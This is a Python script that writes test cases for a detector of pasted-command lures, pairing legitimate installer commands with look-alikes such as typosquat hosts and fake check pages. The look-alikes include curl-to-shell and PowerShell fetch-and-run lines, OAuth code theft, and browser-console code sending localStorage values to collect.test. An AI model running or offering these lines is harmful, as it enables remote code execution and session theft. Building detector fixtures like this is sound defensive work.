"""Writes tests/data/cases/b4benign.jsonl: texts developers and admins paste with the page they
came from, which were warned about or blocked although nothing in them is a lure, each beside
the look-alike lure that must stay flagged (a stranger's host, a typosquat or fake check page,
an unrelated page, the Run box).

    python tests/data/cases/make_b4benign.py

Deterministic. Project names are made up; lure hosts are reserved names (*.test, *.example).
No text is copied from a blind set, a lure collection or another detector's fixtures. Each line
is {id, text, expect, technique, platform, source, target}.

Principles:

- `same-name`: a project's name spelt its own way on its other domain, its forge account or its
  package account (an affix: go-, -project, -lang, -io, -public; the name run across the dot of
  its domain: vel.so for velso). Look-alikes: another name, a forum on the project's domain,
  a check page, an unrelated page, a download host's name (get-x), the Run box.
- `named-installer`: two installers the trust list names from their projects' own pages
  (php.new for Laravel, coursier's releases for Scala), whose hosts no name ties to those pages.
  Look-alikes: the host inside another, plain HTTP, another account, the Run box.
- `own-page-shape`: installers written the way their own page writes them (the user's $SHELL,
  settings in front of bash -c, a script saved to /tmp and run from there): not blocked from
  their own page; the same shapes from a stranger's page, or with a hidden name, stay flagged.
- `example-sign-in`: a loopback sign-in redirect with a code, copied from a documentation page
  into an editor, is an example; with no page, or from a check page, it is ConsentFix.
- `defanged-write-up`: sentences quoting a defanged command in backticks, pasted into an
  editor, are a report; the same command with a live address is the lure.
- `storage-keys`: listing the keys of a site's storage and the lengths of their values sends
  nothing; reading every value and sending it is theft.
"""

from __future__ import annotations

from pathlib import Path

from casefile import case  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b4benign.jsonl")
STRANGER = "https://www.tidewater-bakery.example/menu/autumn"
CHECK = "https://verify.quill-captcha.example/human"
BENIGN = "none"


def ok(
    cid: str, text: str, platform: str, source: str | None, target: str = "terminal"
) -> dict[str, str]:
    return case(f"b4b-ok-{cid}", text, "not_flagged", BENIGN, platform, source, target)


def lure(
    cid: str, text: str, expect: str, technique: str, platform: str, source: str | None,
    target: str = "terminal",
) -> dict[str, str]:  # fmt: skip
    return case(f"b4b-lure-{cid}", text, expect, technique, platform, source, target)


def same_name() -> list[dict[str, str]]:
    pipe = "curl -sSfL {} | sh"
    out = [
        # an affix on the page's domain: -project, go-, -hq
        ok("name-project-1", pipe.format("https://get.quill.sh"), "linux", "https://docs.quillproject.io/stable/install/"),
        ok("name-project-2", pipe.format("https://get.k7s.sh"), "linux", "https://docs.k7sproject.io/install/"),
        ok("name-go-1", "curl https://cdn.bramble.dev/install.sh | bash -s 2.1.0", "linux", "https://gobramble.com/docs/installation/"),
        ok("name-hq-1", pipe.format("https://get.thistlehq.com/install.sh"), "linux", "https://thistle.dev/docs/cli"),
        # the name run across the dot of the download's domain
        ok("name-dot-1", "curl -sSfL https://get.vel.so/install.sh | bash", "linux", "https://docs.velso.tech/cli/installation"),
        # the page's name spelt by its forge account: -io, a hyphen, -Public
        ok("name-forge-io-1", "curl -s https://raw.githubusercontent.com/p4x-io/p4x/main/install.sh | bash", "linux", "https://p4x.io/stable/#installation"),
        ok("name-forge-hyphen-1", "bash <(curl -sL https://github.com/hollow-gate/linux-installers/releases/latest/download/setup-deb)", "linux", "https://hollowgate.org/docs/getting-started/raspberrypi"),
        ok("name-forge-public-1", "curl -fLSs https://raw.githubusercontent.com/DriftCI-Public/driftci-cli/main/install.sh | bash", "linux", "https://driftci.com/docs/local-cli/"),
        # a forge page and its owner's own domain spelt across the dot
        ok("name-forge-dot-1", '& ([scriptblock]::Create((irm "https://tidy.fen.re/")))', "windows", "https://github.com/Fenre/WinTidy"),
        # a package host's account named after the page's project, or the forge's own account
        ok("name-pkg-1", "curl -1sLf 'https://dl.cloudsmith.io/public/thornfield/stable/setup.deb.sh' | sudo -E bash\nsudo apt install thornfield-cli", "linux", "https://thornfield.com/download"),
        ok("name-pkg-2", "curl -s https://packagecloud.io/install/repositories/github/pebble-sync/script.deb.sh | sudo bash", "linux", "https://github.com/pebble-sync/pebble-sync/blob/main/INSTALLING.md"),
        # tutorials: a site name with an affix, a three-character name with a digit
        ok("name-tutorial-lang-1", "curl -fsSO https://quartzo-lang.org/install.sh && sh install.sh quartzo@latest", "linux", "https://dev.to/someone/setting-up-quartzo-on-ubuntu-3k1p"),
        ok("name-tutorial-digit-1", "curl -s https://raw.githubusercontent.com/k7d-io/k7d/main/install.sh | TAG=v1.2.3 bash", "linux", "https://stackoverflow.com/questions/1234567/how-to-install-k7d"),
    ]  # fmt: skip
    out += [
        # another name: one letter off, a longer name, another account
        lure("name-other-1", pipe.format("https://get.quil1.sh"), "flagged", "T1036", "linux", "https://docs.quillproject.io/stable/install/"),
        lure("name-other-2", "curl https://cdn.brambles.dev/install.sh | bash", "flagged", "T1036", "linux", "https://gobramble.com/docs/installation/"),
        lure("name-other-3", "curl -s https://raw.githubusercontent.com/p4x-com/p4x/main/install.sh | bash", "flagged", "T1036", "linux", "https://p4x.io/stable/"),
        lure("name-other-4", "curl -1sLf 'https://dl.cloudsmith.io/public/thornfield-dl/stable/setup.deb.sh' | sudo -E bash", "flagged", "T1036", "linux", "https://thornfield.com/download"),
        lure("name-other-5", "curl -s https://packagecloud.io/install/repositories/gitlab/pebble-sync/script.deb.sh | sudo bash", "flagged", "T1036", "linux", "https://github.com/pebble-sync/pebble-sync"),
        # a domain that adds a word to the project's name with a hyphen is a look-alike
        lure("name-hyphen-1", pipe.format("https://get.quill-app.sh"), "flagged", "T1036", "linux", "https://docs.quillproject.io/stable/install/"),
        lure("name-hyphen-2", pipe.format("https://cdn.velso-tech.test/install.sh"), "flagged", "T1036", "linux", "https://docs.velso.tech/cli/installation"),
        # a forum on the project's domain: its users write there, not the project
        lure("name-forum-1", "curl -s https://raw.githubusercontent.com/p4x-io/tools/main/fix.sh | bash", "flagged", "T1036", "linux", "https://community.p4x.io/t/install-fails/1234"),
        lure("name-forum-2", pipe.format("https://get.quill.sh"), "flagged", "T1036", "linux", "https://forum.quillproject.io/t/1"),
        # a fake check page whose name the host repeats, and an unrelated page
        lure("name-check-1", pipe.format("https://get.quillcaptcha.sh/i.sh"), "malicious", "T1204.004", "linux", CHECK),
        lure("name-check-2", pipe.format("https://get.quillcheck.sh/i.sh"), "malicious", "T1204.004", "linux", "https://quillcheck.example/captcha/verify"),
        # a typosquat of a known vendor serving from a host that repeats its name
        lure("name-typosquat-1", pipe.format("https://get.rustup-rs.sh/i.sh"), "malicious", "T1036", "linux", "https://docs.rustup-rs.example/install"),
        lure("name-stranger-1", pipe.format("https://get.k7s.sh"), "malicious", "T1204.004", "linux", STRANGER),
        # a short name across the dot is no name (wi.io is not "wiio")
        lure("name-short-1", "curl -s https://raw.githubusercontent.com/wi-io/x/main/i.sh | bash", "flagged", "T1036", "linux", "https://wi.io/docs/"),
        # a download host's name in a tutorial: get-quartzo is no product
        lure("name-tutorial-get-1", "curl -fsSO https://get-quartzo.top/install.sh && sh install.sh", "flagged", "T1036", "linux", "https://dev.to/someone/setting-up-quartzo-on-ubuntu-3k1p"),
        # the Run box: no project asks for a paste there
        lure("name-runbox-1", "powershell -c \"irm https://tidy.fen.re/ | iex\"", "malicious", "T1204.004", "windows", "https://github.com/Fenre/WinTidy", "run_dialog"),
    ]  # fmt: skip
    return out


def named_installers() -> list[dict[str, str]]:
    """Installers whose host no name ties to the page documenting them (trust.yaml, facts from
    the projects' own installation pages), quoted anywhere; and their look-alikes."""
    php = '/bin/bash -c "$(curl -fsSL {})"'
    cs = "curl -fL {} | gzip -d > cs && chmod +x cs && ./cs setup"
    blog = "https://blog.example.org/2026/01/new-mac-dev-setup"
    return [
        ok("trusted-php-1", php.format("https://php.new/install/linux/8.3"), "linux", blog),
        ok("trusted-php-2", "iex ((New-Object System.Net.WebClient).DownloadString('https://php.new/install/windows/8.3'))", "windows", blog),
        ok("trusted-cs-1", cs.format("https://github.com/coursier/coursier/releases/latest/download/cs-aarch64-apple-darwin.gz"), "macos", blog),
        lure("trusted-php-1", php.format("https://php.new.cdn-fix.test/install/linux/8.3"), "flagged", "T1036", "linux", blog),
        lure("trusted-php-2", php.format("http://php.new/install/linux/8.3"), "flagged", "T1557", "linux", blog),
        lure("trusted-php-3", php.format("https://php.new/install/linux/8.3"), "malicious", "T1204.004", "linux", CHECK, "run_dialog"),
        lure("trusted-cs-1", cs.format("https://github.com/coursier-dl/coursier/releases/latest/download/cs-x86_64-pc-linux.gz"), "flagged", "T1036", "linux", blog),
    ]  # fmt: skip


def own_page_shapes() -> list[dict[str, str]]:
    mamba = "https://wren.readthedocs.io/en/latest/installation/wren-installation.html"
    metrics = "https://docs.wrenmetrics.com/agent/install/ubuntu/"
    ospry = "https://ospry.dev/guide/agent-installation"
    env = 'WREN_API_KEY=<YOUR_API_KEY> WREN_SITE="wrenmetrics.com" bash -c "$(curl -L {})"'
    tmp = "curl -sL {} -o /tmp/install-agent.sh && chmod +x /tmp/install-agent.sh && /tmp/install-agent.sh"
    return [
        ok("shape-shell-1", '"${SHELL}" <(curl -L micro.wren.pm/install.sh)', "linux", mamba),
        ok("shape-shell-2", "$SHELL <(curl -fsSL https://micro.wren.pm/install.sh)", "macos", mamba),
        ok("shape-env-1", env.format("https://install.wrenmetrics.com/scripts/install_agent.sh"), "linux", metrics),
        ok("shape-tmp-1", tmp.format("https://get.ospry.dev"), "linux", ospry),
        ok("shape-tmp-2", "wget -qO /tmp/ospry.sh https://get.ospry.dev && sudo /tmp/ospry.sh", "linux", ospry),
        # the same shapes from a stranger's page, a check page, or hiding more
        ok("shape-shell-3", '${SHELL} -c "$(curl -fsSL https://micro.wren.pm/install.sh)"', "linux", mamba),
        # the login shell by its variable still runs what was fetched
        lure("shape-shell-var-1", '$SHELL -c "$(curl -fsSL https://cdn.wren-tools.test/i.sh)"', "malicious", "T1059.004", "linux", STRANGER),
        lure("shape-shell-var-2", 'curl -fsSL https://cdn.wren-tools.test/i.sh | "$SHELL"', "flagged", "T1059.004", "linux", None),
        lure("shape-shell-cut-1", '"${SHELL:0:9}" <(curl -L https://cdn.wren-tools.test/i.sh)', "malicious", "T1027", "linux", STRANGER),
        lure("shape-shell-2", '"${SHELL}" <(curl -L https://cdn.wren-tools.test/i.sh)', "malicious", "T1204.004", "linux", CHECK),
        lure("shape-env-1", env.format("https://cdn.wren-tools.test/agent.sh"), "malicious", "T1036", "linux", STRANGER),
        lure("shape-env-2", env.format("https://cdn.wren-tools.test/agent.sh"), "malicious", "T1036", "linux", CHECK),
        lure("shape-env-3", env.format("https://cdn.wren-tools.test/agent.sh"), "flagged", "T1036", "linux", "https://docs.wrenmetrics.com/agent/install/ubuntu/"),
        lure("shape-tmp-1", tmp.format("https://cdn.ospry-agent.test/a"), "malicious", "T1204.004", "linux", STRANGER),
        lure("shape-tmp-hidden-1", "curl -sL https://get.ospry.dev -o /tmp/.a && chmod +x /tmp/.a && /tmp/.a", "flagged", "T1564.001", "linux", ospry),
        lure("shape-tmp-runbox-1", tmp.format("https://get.ospry.dev"), "malicious", "T1204.004", "linux", ospry, "run_dialog"),
    ]  # fmt: skip


def sign_in_examples() -> list[dict[str, str]]:
    code = "4/Q8rT2kLmZ0vXw7yB-nC3dEfGhJ9pAs1u"
    redirect = (
        f"http://127.0.0.1:8765/?code={code}&scope=https://www.googleapis.com/auth/drive.file"
    )
    microsoft = "http://localhost:5050/auth?code=0.AXoAq8TzLw3bNkWc7rPxYv2HjG5sEuDfRiKmOaB9&state=12345&session_state=fe0a7b21"
    return [
        ok("sign-in-docs-1", redirect, "any", "https://developers.example.com/identity/oauth2/native-app", "other"),
        ok("sign-in-docs-2", microsoft, "any", "https://learn.example.com/docs/identity-platform/v2-oauth2-auth-code-flow", "other"),
        # the lure: a code from the person's own address bar, pasted into a page
        lure("sign-in-nopage-1", redirect, "malicious", "T1528", "any", None, "other"),
        lure("sign-in-check-1", redirect, "malicious", "T1528", "any", CHECK, "other"),
        lure("sign-in-loopback-1", redirect, "malicious", "T1528", "any", "http://127.0.0.1:8765/", "other"),
        lure("sign-in-stranger-1", redirect, "malicious", "T1528", "any", STRANGER, "other"),
        # a sign-in service's own page shows the person's real code (out-of-band, native client)
        lure("sign-in-idp-1", "https://login.microsoftonline.com/common/oauth2/nativeclient?code=0.AXoAq8TzLw3bNkWc7rPxYv2HjG5sEuDfRiKmOaB9xYz&session_state=fe0a7b21", "malicious", "T1528", "any", "https://login.microsoftonline.com/common/oauth2/nativeclient?code=0.AXoAq8TzLw3bNkWc7rPxYv2HjG5sEuDfRiKmOaB9xYz&session_state=fe0a7b21", "other"),
        lure("sign-in-idp-2", redirect, "malicious", "T1528", "any", "https://accounts.google.com/o/oauth2/approval/v2?auto=false", "other"),
        lure("sign-in-idp-3", redirect, "malicious", "T1528", "any", "https://auth.example-sso.dev/docs/oauth/callback", "other"),
        lure("sign-in-docs-unknown-1", redirect, "malicious", "T1528", "any", "https://developers.example.com/identity/oauth2/native-app", "unknown"),
    ]  # fmt: skip


def write_ups() -> list[dict[str, str]]:
    blog = "https://www.threat-notes.example/2026/12/paste-lures-roundup"
    ps = (
        "Last week's fake check pages asked people to press Win+R and paste a line such as "
        '`powershell -w h -c "iex(irm hxxps://cdn-check[.]example/v)"` before they could go on. '
        "The tail of the line is padded so the box shows only a comment. "
        "Admins can turn off the Run dialog for users who never need it."
    )
    sh = (
        "The macOS variant tells people to open Terminal with Cmd+Space and paste "
        "`echo <base64> | base64 -D | zsh` which decodes to "
        "`curl -s hxxp://198.51.100[.]23/s | bash` once run. "
        "Nobody at a help desk will ever ask for that, and neither will a website."
    )
    live = ps.replace("hxxps://cdn-check[.]example/v", "https://cdn-check.test/v")
    return [
        ok("writeup-ps-1", ps, "any", blog, "other"),
        ok("writeup-sh-1", sh, "any", blog, "other"),
        # a live address: the lure's own instructions
        lure("writeup-live-1", live, "flagged", "T1204.004", "windows", CHECK, "other"),
        lure("writeup-live-2", live, "malicious", "T1204.004", "windows", CHECK, "run_dialog"),
        # defanged but pasted where it runs: still named, never dropped to quiet
        lure("writeup-terminal-1", "powershell -w h -c \"iex(irm hxxps://cdn-check[.]example/v)\"", "flagged", "T1564.003", "windows", blog, "terminal"),
    ]  # fmt: skip


def storage_keys() -> list[dict[str, str]]:
    docs = "https://developer.example.org/docs/devtools/storage/local-storage"
    return [
        ok("storage-lengths-1", "Object.keys(localStorage).forEach(k => console.log(k, localStorage.getItem(k).length))", "browser", docs, "browser_console"),
        ok("storage-lengths-2", "Object.keys(sessionStorage).forEach(key => console.log(key, sessionStorage[key].length))", "browser", docs, "browser_console"),
        ok("storage-keys-1", "console.table(Object.keys(localStorage))", "browser", docs, "browser_console"),
        lure("storage-values-1", "Object.keys(localStorage).forEach(k => console.log(k, localStorage.getItem(k)))", "flagged", "T1539", "browser", "https://nitro-gift-claim.example/steps", "browser_console"),
        lure("storage-send-1", "Object.keys(localStorage).forEach(k => { if (localStorage.getItem(k).length > 20) new Image().src = 'https://collect.test/s?' + k + '=' + encodeURIComponent(localStorage.getItem(k)) })", "malicious", "T1539", "browser", "https://nitro-gift-claim.example/steps", "browser_console"),
        lure("storage-map-1", "fetch('https://collect.test/s', {method: 'POST', body: Object.keys(localStorage).map(k => k + '=' + localStorage[k]).join('&')})", "malicious", "T1539", "browser", "https://nitro-gift-claim.example/steps", "browser_console"),
    ]  # fmt: skip


def build() -> list[dict[str, str]]:
    cases = [
        *same_name(),
        *named_installers(),
        *own_page_shapes(),
        *sign_in_examples(),
        *write_ups(),
        *storage_keys(),
    ]
    ids = [c["id"] for c in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return cases


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
